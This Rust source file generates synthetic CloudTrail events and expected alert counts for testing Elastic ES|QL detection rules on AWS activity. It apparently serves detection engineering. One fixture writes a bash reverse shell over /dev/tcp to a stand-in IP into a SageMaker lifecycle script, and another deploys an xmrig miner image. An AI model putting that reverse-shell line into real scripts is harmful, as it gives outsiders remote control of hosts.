//! Hits and near misses of the CloudTrail ES|QL rules (`gen --esql-cases`): for each rule a
//! record, or a group of records for the aggregating ones, that is a hit under Elasticsearch's
//! semantics, and near misses one step short of it (one short of a threshold, a wrong value,
//! outside the window). Each instance has principals of its own, so groups never mix with
//! each other or with the background; the background never draws these event names (Lambda
//! `Invoke`, S3 `PutObject`/`CopyObject`, ECR policies, Bedrock, SageMaker, ECS task
//! definitions, Service Quotas), except `CreateAccessKey` and `GetBucket*`, which the cases
//! keep apart by principal.
//!
//! The expected alerts are computed here from the injection and each rule's schedule, as
//! `hunt` replays it (executions at multiples of `interval` since the epoch, each seeing
//! `[t - lookback, t]`, one alert per result row per execution for aggregating rules, one per
//! source event for the others), never from a dragnet run. Rule files:
//! `corpus/detection-rules/rules/integrations/aws/*.toml` (named per case below).

use serde_json::{Value, json};

use super::{Kind, Principal, USER_AGENTS, public_ip};
use crate::rng::Rng;

const MINUTE: i64 = 60_000;

/// One record of a case, `delay_ms` after the previous one (the first at the clock).
pub(super) struct CaseRecord {
    pub delay_ms: i64,
    pub service: &'static str,
    pub name: &'static str,
    /// Index into the case's principals.
    pub caller: usize,
    pub region: &'static str,
    pub user_agent: &'static str,
    pub request: Value,
    /// `requestParameters` written as this JSON text instead, for a key order `Value` (whose
    /// keys serialize sorted) cannot keep.
    pub request_json: Option<String>,
    pub response: Value,
    pub additional: Option<Value>,
    pub resources: Option<Value>,
    pub error: Option<(&'static str, String)>,
    pub read_only: bool,
    /// An S3 object or Lambda data event (`eventCategory: Data`).
    pub data: bool,
}

impl CaseRecord {
    fn new(service: &'static str, name: &'static str, request: Value) -> Self {
        CaseRecord {
            delay_ms: 0,
            service,
            name,
            caller: 0,
            region: "us-east-1",
            user_agent: USER_AGENTS[2],
            request,
            request_json: None,
            response: Value::Null,
            additional: None,
            resources: None,
            error: None,
            read_only: false,
            data: false,
        }
    }
}

/// What a case builder gets: randomness, the accounts, and a number unique to the instance.
pub(super) struct CaseCtx<'a> {
    pub rng: &'a mut Rng,
    pub accounts: &'a [String],
    pub instance: u64,
}

impl CaseCtx<'_> {
    /// An IAM user (long-term `AKIA` key) of the first account, named after the case.
    pub fn user(&mut self, tag: &str) -> Principal {
        Principal {
            kind: Kind::IamUser,
            account: 0,
            principal_id: format!("AIDA{}", self.rng.upper_alnum(17)),
            name: format!("esql-{tag}-{}", self.instance),
            session: String::new(),
            access_key: format!("AKIA{}", self.rng.upper_alnum(16)),
            source_ip: public_ip(self.rng),
            user_agent: USER_AGENTS[2],
            mfa: false,
            console: false,
        }
    }

    fn account(&self, i: usize) -> &str {
        &self.accounts[i]
    }
}

/// How a rule alerts, for the expected counts.
#[derive(Clone, Copy)]
pub(super) enum Alerting {
    /// One alert per distinct source event (`METADATA _id`): `hits` records per instance.
    PerEvent { hits: u64 },
    /// One alert per execution whose window holds the whole group: executions `t` (multiples
    /// of `interval`) with `last <= t <= first + span`, where `span` is the rule's look-back,
    /// or less when its final `WHERE` compares with `NOW()`.
    PerExecution { interval_ms: i64, span_ms: i64 },
    /// A near miss: no alert.
    None,
}

impl Alerting {
    /// Alerts from one instance whose records are at `first..=last` (ms).
    pub fn expected(self, first: i64, last: i64) -> u64 {
        match self {
            Alerting::PerEvent { hits } => hits,
            Alerting::None => 0,
            Alerting::PerExecution {
                interval_ms,
                span_ms,
            } => {
                let lo =
                    last.div_euclid(interval_ms) + i64::from(last.rem_euclid(interval_ms) != 0);
                let hi = (first + span_ms).div_euclid(interval_ms);
                (hi - lo + 1).max(0) as u64
            }
        }
    }
}

/// One kind of injected case.
pub(super) struct EsqlCase {
    /// The manifest key.
    pub key: &'static str,
    /// The rule's `name` (alerts carry it as `kibana.alert.rule.name`).
    pub rule: &'static str,
    pub alerting: Alerting,
    /// Instances per GB of output, and the minimum at any size.
    pub per_gb: f64,
    pub min: u64,
    /// The records, and the principals they name (`caller` indexes them).
    pub build: fn(&mut CaseCtx<'_>) -> (Vec<Principal>, Vec<CaseRecord>),
}

impl EsqlCase {
    pub fn planned(&self, size: u64) -> u64 {
        ((self.per_gb * size as f64 / 1e9).round() as u64).max(self.min)
    }
}

const fn per_exec(interval_min: i64, span_min: i64) -> Alerting {
    Alerting::PerExecution {
        interval_ms: interval_min * MINUTE,
        span_ms: span_min * MINUTE,
    }
}

// Schedules (`interval`, `from`) of the rules, from their files; Kibana's default interval is 5m.
const LAMBDA_CROSS: &str = "AWS Lambda Function Invoked Cross-Account";
const LAMBDA_FREQ: &str = "AWS Lambda Function High-Frequency Invocation by a Single Principal";
const S3_JS: &str = "AWS S3 Static Site JavaScript File Uploaded";
const ECR_PUBLIC: &str = "AWS ECR Repository or Registry Policy Granted Public Access";
const BEDROCK_KEY_DESTRUCTIVE: &str =
    "AWS Bedrock API Key Used for Destructive or Anti-Recovery Action";
const BEDROCK_PHANTOM: &str = "AWS IAM Credentials Added to a Bedrock API Key Phantom User";
const SAGEMAKER_LIFECYCLE: &str =
    "AWS SageMaker Notebook Lifecycle Configuration With Suspicious Script Content";
const SELF_KEY: &str = "AWS IAM User Self-Created Access Key Subsequently Used";
const SAGEMAKER_ROLE: &str = "AWS SageMaker Execution Role Passed by Unusual Principal";
const S3_EXTERNAL_KMS: &str = "AWS S3 Object Encryption Using External KMS Key";
const S3_POSTURE: &str = "AWS S3 Rapid Bucket Posture API Calls from a Single Principal";
const QUOTAS: &str = "AWS Service Quotas Multi-Region GetServiceQuota Requests";
const BEDROCK_PROBING: &str = "AWS Bedrock High-Frequency Single-Model Inference API Probing";
const ECS_MINER: &str = "AWS Potential Cryptomining via ECS Task Definition Deployment";

/// Every case, hits first per rule. Rates are per GB (at least `min` at any size).
pub(super) const CASES: &[EsqlCase] = &[
    // execution_lambda_function_invoked_cross_account.toml: interval 60m, from now-61m.
    EsqlCase {
        key: "lambda_cross_account_hit",
        rule: LAMBDA_CROSS,
        alerting: per_exec(60, 61),
        per_gb: 6.0,
        min: 2,
        build: lambda_cross_account_hit,
    },
    EsqlCase {
        key: "lambda_same_account_near_miss",
        rule: LAMBDA_CROSS,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: lambda_same_account_near_miss,
    },
    // impact_lambda_high_frequency_invocation.toml: >= 1000 per principal, interval 60m, from now-61m.
    EsqlCase {
        key: "lambda_1000_invocations_hit",
        rule: LAMBDA_FREQ,
        alerting: per_exec(60, 61),
        per_gb: 2.0,
        min: 1,
        build: |c| lambda_invocations(c, 1000),
    },
    EsqlCase {
        key: "lambda_999_invocations_near_miss",
        rule: LAMBDA_FREQ,
        alerting: Alerting::None,
        per_gb: 2.0,
        min: 1,
        build: |c| lambda_invocations(c, 999),
    },
    // impact_s3_static_site_js_file_uploaded.toml: non-aggregating.
    EsqlCase {
        key: "s3_static_js_put_hit",
        rule: S3_JS,
        alerting: Alerting::PerEvent { hits: 1 },
        per_gb: 8.0,
        min: 2,
        build: |c| s3_put(c, "main.%.js", USER_AGENTS[2]),
    },
    EsqlCase {
        key: "s3_static_js_map_near_miss",
        rule: S3_JS,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| s3_put(c, "main.%.js.map", USER_AGENTS[2]),
    },
    EsqlCase {
        key: "s3_static_js_terraform_near_miss",
        rule: S3_JS,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| s3_put(c, "main.%.js", USER_AGENTS[0]),
    },
    // exfiltration_ecr_repository_policy_granted_public_access.toml: non-aggregating.
    EsqlCase {
        key: "ecr_policy_principal_star_hit",
        rule: ECR_PUBLIC,
        alerting: Alerting::PerEvent { hits: 1 },
        per_gb: 8.0,
        min: 2,
        build: |c| ecr_policy(c, true),
    },
    EsqlCase {
        key: "ecr_policy_account_principal_near_miss",
        rule: ECR_PUBLIC,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| ecr_policy(c, false),
    },
    // impact_bedrock_api_key_destructive_action.toml: non-aggregating.
    EsqlCase {
        key: "bedrock_bearer_token_delete_guardrail_hit",
        rule: BEDROCK_KEY_DESTRUCTIVE,
        alerting: Alerting::PerEvent { hits: 1 },
        per_gb: 8.0,
        min: 2,
        build: |c| bedrock_delete_guardrail(c, true),
    },
    EsqlCase {
        key: "bedrock_sigv4_delete_guardrail_near_miss",
        rule: BEDROCK_KEY_DESTRUCTIVE,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| bedrock_delete_guardrail(c, false),
    },
    // privilege_escalation_bedrock_phantom_user_credentials_added.toml: non-aggregating.
    EsqlCase {
        key: "bedrock_phantom_user_access_key_hit",
        rule: BEDROCK_PHANTOM,
        alerting: Alerting::PerEvent { hits: 1 },
        per_gb: 8.0,
        min: 2,
        build: |c| bedrock_phantom_key(c, false),
    },
    EsqlCase {
        key: "bedrock_phantom_user_access_key_denied_near_miss",
        rule: BEDROCK_PHANTOM,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| bedrock_phantom_key(c, true),
    },
    // persistence_sagemaker_lifecycle_config_suspicious_script_content.toml: non-aggregating.
    EsqlCase {
        key: "sagemaker_lifecycle_reverse_shell_hit",
        rule: SAGEMAKER_LIFECYCLE,
        alerting: Alerting::PerEvent { hits: 1 },
        per_gb: 8.0,
        min: 2,
        build: |c| sagemaker_lifecycle(c, true),
    },
    EsqlCase {
        key: "sagemaker_lifecycle_benign_near_miss",
        rule: SAGEMAKER_LIFECYCLE,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| sagemaker_lifecycle(c, false),
    },
    // persistence_iam_user_self_created_access_key_subsequently_used.toml: default interval
    // 5m, from now-35m.
    EsqlCase {
        key: "iam_self_created_key_used_hit",
        rule: SELF_KEY,
        alerting: per_exec(5, 35),
        per_gb: 6.0,
        min: 2,
        build: |c| self_created_key(c, true),
    },
    EsqlCase {
        key: "iam_key_created_for_other_user_used_near_miss",
        rule: SELF_KEY,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| self_created_key(c, false),
    },
    // privilege_escalation_sagemaker_execution_role_passed_by_unusual_principal.toml: interval
    // 10m, from now-7d, and `WHERE Esql.ingested_min >= NOW() - 10 minutes`.
    EsqlCase {
        key: "sagemaker_training_job_role_hit",
        rule: SAGEMAKER_ROLE,
        alerting: per_exec(10, 10),
        per_gb: 6.0,
        min: 2,
        build: |c| sagemaker_training_job(c, true),
    },
    EsqlCase {
        key: "sagemaker_training_job_user_arn_near_miss",
        rule: SAGEMAKER_ROLE,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| sagemaker_training_job(c, false),
    },
    // impact_s3_object_encryption_with_external_key.toml: non-aggregating.
    EsqlCase {
        key: "s3_copy_external_kms_key_hit",
        rule: S3_EXTERNAL_KMS,
        alerting: Alerting::PerEvent { hits: 1 },
        per_gb: 8.0,
        min: 2,
        build: |c| s3_copy_kms(c, true),
    },
    EsqlCase {
        key: "s3_copy_own_kms_key_near_miss",
        rule: S3_EXTERNAL_KMS,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| s3_copy_kms(c, false),
    },
    // discovery_s3_rapid_bucket_posture_api_calls.toml: > 15 distinct buckets in a 10 s
    // bucket, default interval 5m, from now-6m.
    EsqlCase {
        key: "s3_posture_16_buckets_hit",
        rule: S3_POSTURE,
        alerting: per_exec(5, 6),
        per_gb: 6.0,
        min: 2,
        build: |c| s3_posture(c, 16),
    },
    EsqlCase {
        key: "s3_posture_15_buckets_near_miss",
        rule: S3_POSTURE,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| s3_posture(c, 15),
    },
    // discovery_servicequotas_multi_region_service_quota_requests.toml: >= 10 regions and
    // >= 10 calls in a 30 s bucket, default interval 5m, from now-6m.
    EsqlCase {
        key: "service_quota_10_regions_hit",
        rule: QUOTAS,
        alerting: per_exec(5, 6),
        per_gb: 6.0,
        min: 2,
        build: |c| service_quotas(c, 10),
    },
    EsqlCase {
        key: "service_quota_9_regions_near_miss",
        rule: QUOTAS,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| service_quotas(c, 9),
    },
    // exfiltration_bedrock_high_frequency_inference_api_probing.toml: >= 500 calls per
    // principal and model, interval 10m, from now-60m.
    EsqlCase {
        key: "bedrock_500_inferences_hit",
        rule: BEDROCK_PROBING,
        alerting: per_exec(10, 60),
        per_gb: 2.0,
        min: 1,
        build: |c| bedrock_inferences(c, 500),
    },
    EsqlCase {
        key: "bedrock_499_inferences_near_miss",
        rule: BEDROCK_PROBING,
        alerting: Alerting::None,
        per_gb: 2.0,
        min: 1,
        build: |c| bedrock_inferences(c, 499),
    },
    // impact_ecs_cryptomining_task_definition_deployment.toml: default interval 5m, from now-30m.
    EsqlCase {
        key: "ecs_miner_task_definition_run_hit",
        rule: ECS_MINER,
        alerting: per_exec(5, 30),
        per_gb: 6.0,
        min: 2,
        build: |c| ecs_task(c, 8192),
    },
    EsqlCase {
        key: "ecs_small_task_definition_run_near_miss",
        rule: ECS_MINER,
        alerting: Alerting::None,
        per_gb: 4.0,
        min: 1,
        build: |c| ecs_task(c, 1024),
    },
];

fn lambda_invoke(c: &mut CaseCtx<'_>, function_account: usize, name: &str) -> CaseRecord {
    let arn = format!(
        "arn:aws:lambda:us-east-1:{}:function:{name}",
        c.account(function_account)
    );
    let mut r = CaseRecord::new(
        "lambda",
        "Invoke",
        json!({"functionName": arn, "invocationType": "RequestResponse"}),
    );
    r.resources = Some(
        json!([{"accountId": c.account(function_account), "type": "AWS::Lambda::Function", "ARN": arn}]),
    );
    r.data = true;
    r
}

fn lambda_cross_account_hit(c: &mut CaseCtx<'_>) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("lambda-x");
    let records = (0..3)
        .map(|_| lambda_invoke(c, 1, "shared-etl-handler"))
        .collect();
    (vec![p], records)
}

fn lambda_same_account_near_miss(c: &mut CaseCtx<'_>) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("lambda-same");
    (vec![p], vec![lambda_invoke(c, 0, "orders-prod-worker")])
}

fn lambda_invocations(c: &mut CaseCtx<'_>, n: usize) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("lambda-loop");
    let records = (0..n)
        .map(|_| lambda_invoke(c, 0, "payments-prod-handler"))
        .collect();
    (vec![p], records)
}

/// `%` in `file` is replaced by a random hex tag.
fn s3_put(c: &mut CaseCtx<'_>, file: &str, ua: &'static str) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("s3-site");
    let bucket = format!("www-site-{}", c.rng.digits(6));
    let key = format!("static/js/{}", file.replace('%', &c.rng.hex(8)));
    // Exactly bucketName, Host, key: the rule DISSECTs the rendered map as three entries.
    let mut r = CaseRecord::new(
        "s3",
        "PutObject",
        json!({"bucketName": bucket, "Host": format!("{bucket}.s3.us-east-1.amazonaws.com"), "key": key}),
    );
    r.user_agent = ua;
    r.response = json!({"x-amz-server-side-encryption": "AES256"});
    r.additional = Some(
        json!({"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 48213, "AuthenticationMethod": "AuthHeader", "bytesTransferredOut": 0}),
    );
    r.resources = Some(json!([
        {"type": "AWS::S3::Object", "ARN": format!("arn:aws:s3:::{bucket}/{key}")},
        {"accountId": c.account(0), "type": "AWS::S3::Bucket", "ARN": format!("arn:aws:s3:::{bucket}")}
    ]));
    r.data = true;
    (vec![p], vec![r])
}

fn ecr_policy(c: &mut CaseCtx<'_>, public: bool) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("ecr");
    let principal = if public {
        "\"*\"".to_string()
    } else {
        format!("{{\"AWS\": \"arn:aws:iam::{}:root\"}}", c.account(1))
    };
    let policy = format!(
        "{{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Sid\":\"AllowPull\",\"Effect\": \"Allow\",\"Principal\": {principal},\"Action\":[\"ecr:BatchGetImage\",\"ecr:GetDownloadUrlForLayer\"]}}]}}"
    );
    let repo = format!("prod/images-{}", c.rng.hex(6));
    let mut r = CaseRecord::new(
        "ecr",
        "SetRepositoryPolicy",
        json!({"repositoryName": repo, "policyText": policy, "force": false}),
    );
    r.response = json!({"registryId": c.account(0), "repositoryName": repo, "policyText": policy});
    (vec![p], vec![r])
}

fn bedrock_delete_guardrail(
    c: &mut CaseCtx<'_>,
    bearer: bool,
) -> (Vec<Principal>, Vec<CaseRecord>) {
    let mut p = c.user("bedrock-key");
    p.name = format!("BedrockAPIKey-{}", c.rng.hex(4));
    let mut r = CaseRecord::new(
        "bedrock",
        "DeleteGuardrail",
        json!({"guardrailIdentifier": c.rng.hex(12)}),
    );
    r.additional = Some(json!({"callWithBearerToken": bearer}));
    (vec![p], vec![r])
}

fn bedrock_phantom_key(c: &mut CaseCtx<'_>, denied: bool) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("iam-admin");
    let target = format!("BedrockAPIKey-{}", c.rng.hex(4));
    let mut r = CaseRecord::new("iam", "CreateAccessKey", json!({"userName": target}));
    if denied {
        r.error = Some((
            "AccessDenied",
            format!(
                "User is not authorized to perform: iam:CreateAccessKey on resource: user {target}"
            ),
        ));
    } else {
        r.response = json!({"accessKey": {"userName": target, "accessKeyId": format!("AKIA{}", c.rng.upper_alnum(16)), "status": "Active", "createDate": "Mar 4, 2024, 1:05:09 PM"}});
    }
    (vec![p], vec![r])
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn sagemaker_lifecycle(c: &mut CaseCtx<'_>, shell: bool) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("sagemaker");
    let script = if shell {
        "#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
    } else {
        "#!/bin/bash\nset -e\npip install --upgrade pandas\n"
    };
    let r = CaseRecord::new(
        "sagemaker",
        "CreateNotebookInstanceLifecycleConfig",
        json!({"notebookInstanceLifecycleConfigName": format!("setup-{}", c.rng.hex(6)), "onStart": [{"content": base64(script.as_bytes())}]}),
    );
    (vec![p], vec![r])
}

fn self_created_key(c: &mut CaseCtx<'_>, own: bool) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("key-owner");
    let new_key = format!("AKIA{}", c.rng.upper_alnum(16));
    let mut user = p.name.clone();
    // Self-created: no userName (the caller's own key); near miss: for another user.
    let request = if own {
        Value::Null
    } else {
        user = format!("esql-other-{}", c.instance);
        json!({"userName": user})
    };
    let mut create = CaseRecord::new("iam", "CreateAccessKey", request);
    create.response = json!({"accessKey": {"userName": user, "accessKeyId": new_key, "status": "Active", "createDate": "Mar 4, 2024, 1:05:09 PM"}});
    let mut with_new_key = p.clone_with_key(&new_key);
    with_new_key.source_ip = public_ip(c.rng);
    let mut used = CaseRecord::new("sts", "GetCallerIdentity", Value::Null);
    used.delay_ms = MINUTE;
    used.caller = 1;
    used.read_only = true;
    (vec![p, with_new_key], vec![create, used])
}

fn sagemaker_training_job(c: &mut CaseCtx<'_>, role: bool) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("ml");
    let kind = if role { "role" } else { "user" };
    let tag = c.rng.hex(4);
    let arn = format!("arn:aws:iam::{}:{kind}/ml-exec-{tag}", c.account(0));
    let job = format!("train-{}", c.rng.hex(8));
    let mut r = CaseRecord::new(
        "sagemaker",
        "CreateTrainingJob",
        json!({"trainingJobName": job, "roleArn": arn, "algorithmSpecification": {"trainingImage": "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1", "trainingInputMode": "File"}}),
    );
    r.response = json!({"trainingJobArn": format!("arn:aws:sagemaker:us-east-1:{}:training-job/{job}", c.account(0))});
    (vec![p], vec![r])
}

fn s3_copy_kms(c: &mut CaseCtx<'_>, external: bool) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("s3-copy");
    let key_account = if external {
        format!("{}", c.rng.range(100_000_000_000, 999_999_999_999))
    } else {
        c.account(0).to_string()
    };
    let bucket = format!("backups-{}", c.rng.digits(6));
    let object = format!("exports/{}.csv", c.rng.digits(10));
    let kms = format!("arn:aws:kms:us-east-1:{key_account}:key/{}", c.rng.uuid());
    // CloudTrail's key order, which the rule's DISSECT relies on: the kms key id before
    // `Host` (the two share a bucket of the pipeline's HashMap, so insertion order decides).
    let mut r = CaseRecord::new("s3", "CopyObject", Value::Null);
    r.request_json = Some(
        json!([
            bucket,
            kms,
            format!("{bucket}.s3.us-east-1.amazonaws.com"),
            "aws:kms",
            format!("{bucket}/{object}"),
            object
        ])
        .as_array()
        .map(|v| {
            let keys = [
                "bucketName",
                "x-amz-server-side-encryption-aws-kms-key-id",
                "Host",
                "x-amz-server-side-encryption",
                "x-amz-copy-source",
                "key",
            ];
            let pairs: Vec<String> = keys
                .iter()
                .zip(v)
                .map(|(k, v)| format!("{}:{v}", Value::from(*k)))
                .collect();
            format!("{{{}}}", pairs.join(","))
        })
        .unwrap_or_default(),
    );
    r.response = json!({"x-amz-server-side-encryption": "aws:kms", "x-amz-server-side-encryption-aws-kms-key-id": kms});
    r.resources = Some(json!([
        {"type": "AWS::S3::Object", "ARN": format!("arn:aws:s3:::{bucket}/{object}")},
        {"accountId": c.account(0), "type": "AWS::S3::Bucket", "ARN": format!("arn:aws:s3:::{bucket}")}
    ]));
    r.data = true;
    (vec![p], vec![r])
}

fn s3_posture(c: &mut CaseCtx<'_>, buckets: usize) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("s3-audit");
    const CALLS: [(&str, &str); 5] = [
        ("GetBucketAcl", "acl"),
        ("GetBucketPublicAccessBlock", "publicAccessBlock"),
        ("GetBucketPolicy", "policy"),
        ("GetBucketPolicyStatus", "policyStatus"),
        ("GetBucketVersioning", "versioning"),
    ];
    let tag = c.rng.digits(6);
    let records = (0..buckets)
        .map(|i| {
            let bucket = format!("target-{tag}-{i:02}");
            let (name, sub) = CALLS[i % CALLS.len()];
            let mut r = CaseRecord::new(
                "s3",
                name,
                json!({"bucketName": bucket, "Host": format!("{bucket}.s3.us-east-1.amazonaws.com"), sub: ""}),
            );
            r.read_only = true;
            r.resources = Some(
                json!([{"accountId": c.account(0), "type": "AWS::S3::Bucket", "ARN": format!("arn:aws:s3:::{bucket}")}]),
            );
            r
        })
        .collect();
    (vec![p], records)
}

const QUOTA_REGIONS: [&str; 10] = [
    "us-east-1",
    "us-east-2",
    "us-west-1",
    "us-west-2",
    "eu-west-1",
    "eu-west-2",
    "eu-central-1",
    "ap-south-1",
    "ap-northeast-1",
    "ap-southeast-2",
];

fn service_quotas(c: &mut CaseCtx<'_>, regions: usize) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("quota");
    let records = QUOTA_REGIONS[..regions]
        .iter()
        .map(|region| {
            let mut r = CaseRecord::new(
                "servicequotas",
                "GetServiceQuota",
                json!({"serviceCode": "ec2", "quotaCode": "L-1216C47A"}),
            );
            r.region = region;
            r.read_only = true;
            r
        })
        .collect();
    (vec![p], records)
}

fn bedrock_inferences(c: &mut CaseCtx<'_>, n: usize) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("bedrock-probe");
    let records = (0..n)
        .map(|_| {
            let mut r = CaseRecord::new(
                "bedrock",
                "InvokeModel",
                json!({"modelId": "anthropic.claude-3-haiku-20240307-v1:0"}),
            );
            r.read_only = true;
            r
        })
        .collect();
    (vec![p], records)
}

fn ecs_task(c: &mut CaseCtx<'_>, cpu: u32) -> (Vec<Principal>, Vec<CaseRecord>) {
    let p = c.user("ecs-deploy");
    let family = format!("worker-{}", c.rng.hex(6));
    let mut register = CaseRecord::new(
        "ecs",
        "RegisterTaskDefinition",
        json!({"family": family, "containerDefinitions": [{"name": "worker", "image": "docker.io/xmrig/xmrig:latest", "cpu": cpu, "memory": 2 * cpu, "essential": true}], "requiresCompatibilities": ["FARGATE"], "networkMode": "awsvpc", "cpu": cpu.to_string(), "memory": (2 * cpu).to_string()}),
    );
    register.response =
        json!({"taskDefinition": {"family": family, "revision": 1, "status": "ACTIVE"}});
    let mut run = CaseRecord::new(
        "ecs",
        "RunTask",
        json!({"cluster": "default", "taskDefinition": family, "count": 1, "launchType": "FARGATE"}),
    );
    run.delay_ms = 30_000;
    (vec![p], vec![register, run])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_rfc4648_vectors() {
        for (plain, encoded) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(base64(plain.as_bytes()), encoded);
        }
    }

    #[test]
    fn executions_covering_a_group_follow_the_schedule() {
        let five = per_exec(5, 6);
        // A group at 00:01 is seen by the 00:05 execution only (00:10 looks back to 00:04).
        assert_eq!(five.expected(MINUTE, MINUTE), 1);
        // At 00:04:30 by 00:05 and 00:10 (which looks back to 00:04).
        assert_eq!(five.expected(9 * MINUTE / 2, 9 * MINUTE / 2), 2);
        // Exactly at an execution: that one and the next (which looks back to 00:04).
        assert_eq!(five.expected(5 * MINUTE, 5 * MINUTE), 2);
        // A pair one minute apart inside a 35-minute look-back.
        assert_eq!(per_exec(5, 35).expected(MINUTE, 2 * MINUTE), 7);
        assert_eq!(Alerting::None.expected(0, 0), 0);
        assert_eq!(Alerting::PerEvent { hits: 1 }.expected(0, 9), 1);
    }

    #[test]
    fn every_rule_has_a_hit_and_a_near_miss() {
        for case in CASES {
            let kinds: Vec<bool> = CASES
                .iter()
                .filter(|c| c.rule == case.rule)
                .map(|c| matches!(c.alerting, Alerting::None))
                .collect();
            assert!(
                kinds.contains(&true) && kinds.contains(&false),
                "{}",
                case.rule
            );
        }
    }
}
